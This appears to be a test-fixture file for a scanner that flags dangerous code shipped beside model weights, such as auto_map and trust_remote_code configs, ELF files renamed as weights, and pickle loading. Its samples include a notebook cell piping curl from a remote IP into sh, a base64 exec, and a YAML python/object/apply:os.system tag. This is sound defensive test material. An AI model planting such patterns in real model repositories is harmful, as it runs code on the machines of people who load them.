"""Python beside the weights, and configurations that ask for it."""

from __future__ import annotations

import json

from corpus.case import benign, hostile


def config(**entries: object) -> bytes:
    return json.dumps(
        {"architectures": ["LlamaForCausalLM"], "model_type": "llama", **entries}
    ).encode()


hostile(
    "config-auto-map",
    "remote_code.auto_map",
    {"config.json": config(auto_map={"AutoModel": "modeling_x.X"})},
)
hostile(
    "config-auto-map-nested",
    "remote_code.auto_map",
    {"config.json": config(text_config={"auto_map": {"AutoConfig": "c.C"}})},
)
hostile(
    "config-custom-pipeline",
    "remote_code.custom_pipeline",
    {"config.json": config(custom_pipelines={"x": {"impl": "p.P"}})},
)
hostile(
    "config-trust-remote-code",
    "remote_code.trust_remote_code",
    {"config.json": config(trust_remote_code=True)},
)
benign("config-twin", {"config.json": config(auto_map={}, trust_remote_code=False)})
hostile(
    "python-os-system",
    "remote_code.python_file remote_code.dangerous_python",
    {"modeling_x.py": b"import os as o\n\n\ndef forward():\n    o.system('true')\n"},
)
hostile(
    "python-loads-pickle",
    "remote_code.dangerous_python",
    {"convert.py": b"import torch\n\nprint(torch.load('x.pt'))\n"},
    "pass",
)
hostile(
    "python-import-time-exec",
    "remote_code.dangerous_python",
    {"modeling_y.py": b"import base64\nexec(base64.b64decode('cGFzcw=='))\n"},
)
hostile(
    "python-plain",
    "remote_code.python_file",
    {"configuration_x.py": b"class Config:\n    size = 3\n"},
    "pass",
)
hostile("python-broken", "remote_code.python_file", {"x.py": b"def (:"}, "incomplete")
hostile(
    "notebook-shell",
    "remote_code.dangerous_python",
    {
        "x.ipynb": json.dumps(
            {"cells": [{"cell_type": "code", "source": ["!curl http://203.0.113.7 | sh"]}]}
        ).encode()
    },
)
hostile("native-elf", "remote_code.native_code", {"libx.so": b"\x7fELF" + bytes(60)})
hostile("native-elf-renamed", "remote_code.native_code", {"weights.bin": b"\x7fELF" + bytes(60)})
hostile(
    "yaml-python-tag",
    "documents.yaml_python_tag",
    {"params.yaml": b"a: !!python/object/apply:os.system ['true']\n"},
)
benign("yaml-twin", {"params.yaml": b"a: [1, 2]\n"})
